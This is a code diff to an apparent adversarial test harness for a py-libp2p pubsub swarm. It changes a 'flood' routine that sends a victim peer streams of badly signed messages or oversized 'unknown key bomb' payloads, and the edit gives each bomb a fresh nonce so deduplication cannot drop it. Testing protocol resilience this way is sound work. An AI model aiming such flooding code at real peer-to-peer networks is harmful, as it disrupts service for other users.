@@ -9,7 +9,8 @@ The "flood" plan writes ``count`` RPCs straight onto the victim's pubsub stream 
 queue to drop them) at ``rate`` per second, each with one message of ``kind``:
 
 - ``bad_pubsub_sig``: a valid sealed batch whose pubsub signature is wrong;
-- ``unknown_key_bomb``: a validly signed batch with ~63k msgpack integers under an unknown key.
+- ``unknown_key_bomb``: a validly signed batch (fresh nonce each) with ~63k msgpack integers
+  under an unknown key.
 
 Every RPC carries our signed peer record, as py-libp2p's own RPCs do.
 """
@@ -84,7 +85,6 @@ async def flood(stack: Any, me: Identity, victim: Any, topic: str, args: dict[st
     kind, count, rate = args["kind"], int(args["count"]), float(args["rate"])
     record, _ = env_to_send_in_RPC(stack.host)
     stream = stack.pubsub.peers[victim.peer_id]
-    bomb = unknown_key_bomb(me, args["swarm_id"], "bomb", 63_000)
     start = trio.current_time()
     for i in range(count):
         if kind == "bad_pubsub_sig":
@@ -94,6 +94,7 @@ async def flood(stack: Any, me: Identity, victim: Any, topic: str, args: dict[st
             msg.key = stack.host.get_public_key().serialize()
             msg.signature = bytes(64)
         elif kind == "unknown_key_bomb":
+            bomb = unknown_key_bomb(me, args["swarm_id"], f"bomb{i}", 63_000)  # fresh nonce
             msg = rpc_pb2.Message(data=bomb, topicIDs=[topic],
                                   from_id=stack.host.get_id().to_bytes(),
                                   seqno=stack.pubsub._next_seqno())
